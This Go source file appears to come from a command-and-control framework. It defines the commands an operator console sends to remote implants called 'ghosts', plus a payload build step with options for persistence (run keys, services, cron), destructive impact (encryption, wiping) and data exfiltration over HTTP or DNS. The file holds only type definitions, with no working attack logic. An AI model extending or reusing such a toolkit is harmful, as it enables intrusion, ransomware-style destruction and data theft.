package core

import "github.com/jask/charon/internal/models"

// Command is a one-shot side-effect request returned by Update. A nil
// Command means there is nothing to do. The set is closed.
type Command interface {
	isCommand()
	// Kind is a short stable name used in logs.
	Kind() string
}

type FetchGhosts struct{}

type FetchTasks struct {
	GhostID string
}

type SendTask struct {
	GhostID string
	Request models.TaskRequest
}

type UpdateGhostConfig struct {
	GhostID string
	Config  models.GhostConfigUpdate
}

type KillGhost struct {
	GhostID string
}

// BuildOptions is the full wizard snapshot handed to the build toolchain.
type BuildOptions struct {
	TargetURL  string
	TargetPort int
	Debug      bool

	Persistence       bool
	PersistRunControl bool
	PersistService    bool
	PersistCron       bool

	Impact        bool
	ImpactEncrypt bool
	ImpactWipe    bool

	Exfil     bool
	ExfilHTTP bool
	ExfilDNS  bool
}

type BuildPayload struct {
	Options BuildOptions
}

// QuitProgram ends the executor loop.
type QuitProgram struct{}

func (FetchGhosts) isCommand()       {}
func (FetchTasks) isCommand()        {}
func (SendTask) isCommand()          {}
func (UpdateGhostConfig) isCommand() {}
func (KillGhost) isCommand()         {}
func (BuildPayload) isCommand()      {}
func (QuitProgram) isCommand()       {}

func (FetchGhosts) Kind() string       { return "fetch_ghosts" }
func (FetchTasks) Kind() string        { return "fetch_tasks" }
func (SendTask) Kind() string          { return "send_task" }
func (UpdateGhostConfig) Kind() string { return "update_config" }
func (KillGhost) Kind() string         { return "kill_ghost" }
func (BuildPayload) Kind() string      { return "build_payload" }
func (QuitProgram) Kind() string       { return "quit" }
